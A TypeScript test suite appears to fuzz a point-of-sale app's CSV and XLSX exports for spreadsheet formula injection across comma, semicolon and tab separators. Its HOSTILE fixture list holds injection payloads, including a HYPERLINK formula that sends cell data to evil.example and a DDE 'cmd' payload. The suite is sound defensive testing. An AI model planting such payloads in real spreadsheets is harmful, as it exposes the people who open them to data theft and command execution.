import ExcelJS from 'exceljs';
import fc from 'fast-check';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { render } from '../../electron/cli/format';
import { csvText, exportChecks, exportMapping } from '../../electron/core/files';
import type { Check } from '../../shared/domain/check';
import type { CheckRow } from '../../shared/domain/check-row';
import type { Item } from '../../shared/domain/item';
import { csvFormatFor } from '../../shared/domain/locale';
import type { FilePayload } from '../../shared/domain/mapping';
import { ok, startTestCore, type TestCore } from './support/core';
import { type RunningProxy, startProxy } from './support/decorating-proxy';
import { FUZZ_RUNS, FUZZ_SEED, recordFigures } from './support/fuzz-figures';

/**
 * Formula injection: no exported cell whose text came from the service may start a formula when a
 * manager opens the file in Excel, LibreOffice or Google Sheets. The bytes are read back the way a
 * spreadsheet splits them: CSV cells with papaparse, XLSX cells with exceljs (which reports any
 * formula as such). A cell may start with "-" only when it is a plain number we wrote (an amount).
 */

/** First characters that start a formula or a DDE command in some spreadsheet. */
const DANGEROUS = /^[=+@\t\r\n]/;
// A decimal point or, in a Turkish export, a decimal comma.
const PLAIN_NUMBER = /^-?\d+([.,]\d+)?(e[+-]?\d+)?$/i;

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|'/c calc'!A0",
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u0001=cmd',
  '=1+1',
  '-',
  '+',
  // Behind a separator: a Turkish Excel splits on ';', others on tab (issue 18, finding 5).
  'Döner;=HYPERLINK("http://evil.example/?"&A1,"click")',
  'Ayran,=1+1',
  'Kola\t@SUM(A1:A9)',
  'Su;-2+3',
  'Çay;\t=1+1',
  'Tost;\r+1',
];

/** Server text: ordinary, hostile, or anything with a formula character in front. */
const serverText = fc.oneof(
  fc.string({ maxLength: 20 }),
  fc.constantFrom(...HOSTILE),
  fc
    .tuple(
      fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '\u0000=', '\u0007+', '\ufffe@'),
      fc.string({ maxLength: 15 }),
    )
    .map(([a, b]) => a + b),
  // A formula in the middle, behind whatever a spreadsheet may split on.
  fc
    .tuple(
      fc.string({ maxLength: 8 }),
      fc.constantFrom(',', ';', '\t', '\r\n', '\n', '"', ';"'),
      fc.constantFrom('=', '+', '-', '@', '\t', '\r'),
      fc.string({ maxLength: 8 }),
    )
    .map((parts) => parts.join('')),
);

/** What a Turkish user's exports are written with (';' and decimal commas). */
const TURKISH_CSV = csvFormatFor('tr');

/** The separators a spreadsheet may split on: ',' (what we write), ';' (Turkish Excel) and tab. */
const SEPARATORS = [',', ';', '\t'] as const;

function csvCells(bytes: Uint8Array, delimiter: (typeof SEPARATORS)[number] = ','): string[][] {
  const text = new TextDecoder().decode(bytes).replace(/^\uFEFF/, '');
  return Papa.parse<string[]>(text, { delimiter, skipEmptyLines: true }).data;
}

async function xlsxCells(bytes: Uint8Array): Promise<ExcelJS.CellValue[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(new Uint8Array(bytes).buffer);
  const values: ExcelJS.CellValue[] = [];
  for (const sheet of wb.worksheets)
    sheet.eachRow((row) => row.eachCell((cell) => void values.push(cell.value)));
  return values;
}

/** `native`: the separator the file was written with (where our quotes line up). */
function expectSafeCsv(bytes: Uint8Array, native: (typeof SEPARATORS)[number] = ',') {
  for (const delimiter of SEPARATORS) {
    for (const cell of csvCells(bytes, delimiter).flat()) {
      const why = `${JSON.stringify(cell)} split on ${JSON.stringify(delimiter)}`;
      if (delimiter === native) expect(DANGEROUS.test(cell), why).toBe(false);
      // Split on another separator, our quotes no longer line up and a cell may begin with the rest
      // of a line break: what counts is what a spreadsheet sees after skipping it.
      const start = delimiter === native ? cell : cell.replace(/^[\r\n]+/, '');
      expect(DANGEROUS.test(start), why).toBe(false);
      // ... and a row may start with an amount we wrote, then our separator (or decimal comma).
      const lead = delimiter === native ? start : (start.split(/[,;]/)[0] ?? '');
      if (start.startsWith('-')) expect(PLAIN_NUMBER.test(lead), why).toBe(true);
    }
  }
}

async function expectSafeXlsx(bytes: Uint8Array) {
  for (const v of await xlsxCells(bytes)) {
    // A formula comes back as { formula } or { sharedFormula }; rich text and hyperlinks as objects too.
    expect(
      v === null || ['string', 'number', 'boolean'].includes(typeof v) || v instanceof Date,
      JSON.stringify(v),
    ).toBe(true);
    if (typeof v === 'string') expect(/^[=+\-@\t\r\n]/.test(v), JSON.stringify(v)).toBe(false);
  }
}

describe('property: exports never start a formula', () => {
  test(`mapping export, ${FUZZ_RUNS} random item lists (CSV and XLSX)`, async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(
          fc.record({
            itemId: fc.integer({ min: -1000, max: 1e9 }),
            itemNo: serverText,
            name: serverText,
            integrationCode: serverText,
          }),
          { minLength: 1, maxLength: 8 },
        ),
        async (rows) => {
          const items: Item[] = rows.map((r) => ({ ...r, extra: {} }));
          expectSafeCsv(await exportMapping(items, new Set([items[0]?.itemId ?? 0]), 'csv'));
          expectSafeCsv(await exportMapping(items, new Set(), 'csv', { csv: TURKISH_CSV }), ';');
          await expectSafeXlsx(await exportMapping(items, new Set(), 'xlsx'));
        },
      ),
      { numRuns: FUZZ_RUNS, ...(FUZZ_SEED === undefined ? {} : { seed: FUZZ_SEED }) },
    );
    recordFigures('export', 'mapping', { runs: FUZZ_RUNS });
  }, 600_000);

  const CHECK_RUNS = Math.max(1, Math.round(FUZZ_RUNS / 3));
  test(`checks export, ${CHECK_RUNS} random check lists (every CSV part and the XLSX)`, async () => {
    const line = fc.record({
      itemNo: serverText,
      name: serverText,
      integrationCode: serverText,
      quantity: fc.double({ min: -5, max: 5, noNaN: true }),
      total: fc.double({ min: -1e4, max: 1e4, noNaN: true }),
    });
    const check = fc.record({
      id: fc.integer({ min: 1, max: 1e9 }),
      info: fc.option(serverText, { nil: null }),
      outletInfo: fc.option(serverText, { nil: null }),
      receipt: fc.option(serverText, { nil: null }),
      tableNo: fc.option(serverText, { nil: null }),
      orderType: fc.option(serverText, { nil: null }),
      lines: fc.array(line, { maxLength: 3 }),
      paymentType: serverText,
      discountName: serverText,
    });
    await fc.assert(
      fc.asyncProperty(fc.array(check, { minLength: 1, maxLength: 4 }), async (rows) => {
        const checks = rows.map(toCheck);
        for (const part of ['checks', 'lines', 'payments', 'discounts'] as const) {
          expectSafeCsv(await exportChecks(checks, 'csv', part));
          expectSafeCsv(await exportChecks(checks, 'csv', part, TURKISH_CSV), ';');
        }
        await expectSafeXlsx(await exportChecks(checks, 'xlsx'));
      }),
      { numRuns: CHECK_RUNS, ...(FUZZ_SEED === undefined ? {} : { seed: FUZZ_SEED }) },
    );
    recordFigures('export', 'checks', { runs: CHECK_RUNS });
  }, 600_000);
});

function toCheck(r: {
  id: number;
  info: string | null;
  outletInfo: string | null;
  receipt: string | null;
  tableNo: string | null;
  orderType: string | null;
  lines: { itemNo: string; name: string; integrationCode: string; quantity: number; total: number }[];
  paymentType: string;
  discountName: string;
}): Check {
  const lines = r.lines.map((l, i) => ({
    itemId: i + 1,
    itemNo: l.itemNo,
    name: l.name,
    integrationCode: l.integrationCode,
    quantity: l.quantity,
    unitPrice: l.quantity === 0 ? 0 : l.total / l.quantity,
    total: l.total,
    condiments:
      i === 0
        ? [
            {
              itemId: 99,
              itemNo: l.itemNo,
              name: l.name,
              integrationCode: '',
              quantity: 1,
              unitPrice: 0,
              total: 0,
              condiments: [],
              extra: {},
            },
          ]
        : [],
    extra: {},
  }));
  const items = lines.reduce((s, l) => s + l.total, 0);
  return {
    branch: 'B01',
    id: r.id,
    checkNumber: r.id % 1000,
    businessDate: '2025-03-01',
    kind: 'sale',
    state: 'Closed',
    isReturn: items < 0,
    info: r.info,
    outletInfo: r.outletInfo,
    officialReceiptNumber: r.receipt,
    tableNo: r.tableNo,
    orderType: r.orderType,
    address: null,
    fiscal: null,
    invoice: null,
    lines,
    discounts: [{ type: 'Discount', name: r.discountName, amount: 1, extra: {} }],
    payments: [{ paymentType: r.paymentType, amount: items - 1, extra: {} }],
    totals: { items, discounts: 1, payments: items - 1 },
    reconciles: true,
    extra: {},
  };
}

describe('one CSV writer, quoting whatever a spreadsheet may split on', () => {
  test('the CLI writes the core’s CSV, byte for byte, and stays safe split on , ; and tab', () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(serverText, serverText), { minLength: 1, maxLength: 6 }), (rows) => {
        const columns = [
          { header: 'Name', value: (r: [string, string]) => r[0] },
          { header: 'Code', value: (r: [string, string]) => r[1] },
        ];
        const cli = render('csv', rows, columns);
        expect(cli).toBe(csvText(columns, rows));
        expectSafeCsv(new TextEncoder().encode(cli));
      }),
      { numRuns: FUZZ_RUNS, ...(FUZZ_SEED === undefined ? {} : { seed: FUZZ_SEED }) },
    );
  });

  test.each(['Döner;Dürüm', 'Ayran\tKola', 'a,b', 'x"y', 'line\r\nbreak'])(
    'a cell holding a separator, quote or line break is quoted: %j',
    (cell) => {
      const line = csvText([{ header: 'H' }], [[cell]]).split('\r\n')[1] ?? '';
      expect(line.startsWith('"'), JSON.stringify(line)).toBe(true);
    },
  );
});

// ------------------------------------------------------------------ from the service to the file

describe('end to end: hostile names on the service, exported through the app', () => {
  let app: TestCore;
  let proxy: RunningProxy;
  let target = '';

  beforeAll(async () => {
    // The demo service, with every item, check line, outlet and payment type renamed to a formula.
    proxy = await startProxy(
      () => target,
      (path, body) => hostile(path, body),
    );
    app = await startTestCore({
      keepEvents: false,
      demoOptions: { branches: 1, itemsPerBranch: HOSTILE.length * 2, historyDays: 2 },
      demoUrl: (sim) => {
        target = sim.baseUrl;
        return proxy.baseUrl;
      },
    });
    ok(await app.call('demo.start'));
  }, 60_000);
  afterAll(async () => {
    await app?.close();
    await proxy?.close();
  });

  test.each(['csv', 'xlsx'] as const)('mapping.export (%s) of items named like formulas', async (format) => {
    const view = ok<{ items: Item[] }>(await app.call('items.load', { branch: 'B01', refresh: true }));
    expect(view.items.map((i) => i.name)).toEqual(expect.arrayContaining(HOSTILE));
    const file = ok<FilePayload>(await app.call('mapping.export', { branch: 'B01', format }));
    const bytes = new Uint8Array(Buffer.from(file.base64, 'base64'));
    if (format === 'csv') expectSafeCsv(bytes);
    else await expectSafeXlsx(bytes);
  });

  test('checks.export (every part, CSV and XLSX) of checks whose texts are formulas', async () => {
    const today = app.demo()?.control.now().toISOString().slice(0, 10) ?? '';
    const yesterday = new Date(Date.parse(today) - 86_400_000).toISOString().slice(0, 10);
    const loaded = ok<{ rows: CheckRow[] }>(
      await app.call('checks.load', { requestId: 'x', branches: ['B01'], from: yesterday, to: today }),
    );
    expect(loaded.rows.length).toBeGreaterThan(0);
    expect(loaded.rows.some((c) => HOSTILE.includes(c.outletInfo ?? ''))).toBe(true);
    const checkIds = loaded.rows.map((c) => ({ branch: c.branch, id: c.id, businessDate: c.businessDate }));
    for (const part of ['checks', 'lines', 'payments', 'discounts'] as const) {
      const f = ok<FilePayload>(await app.call('checks.export', { checkIds, format: 'csv', part }));
      expectSafeCsv(new Uint8Array(Buffer.from(f.base64, 'base64')));
    }
    const x = ok<FilePayload>(await app.call('checks.export', { checkIds, format: 'xlsx' }));
    await expectSafeXlsx(new Uint8Array(Buffer.from(x.base64, 'base64')));
  });
});

/** Renames server text to formulas: items, check lines, outlets, accounts, payment types. */
function hostile(path: string, body: unknown): unknown {
  let n = 0;
  const next = () => HOSTILE[n++ % HOSTILE.length] ?? '=1';
  const walk = (v: unknown): unknown => {
    if (Array.isArray(v)) return v.map(walk);
    if (typeof v !== 'object' || v === null) return v;
    const out: Record<string, unknown> = {};
    for (const [k, val] of Object.entries(v)) {
      if (
        [
          'Name',
          'ItemNo',
          'OutletInfo',
          'Info',
          'OfficialReceiptNumber',
          'PaymentType',
          'TableNo',
          'OrderType',
        ].includes(k) &&
        typeof val === 'string'
      ) {
        out[k] = next();
      } else {
        out[k] = walk(val);
      }
    }
    return out;
  };
  return path === '/GetItemsIntegrationCode' || path === '/GetChecks' ? walk(body) : body;
}
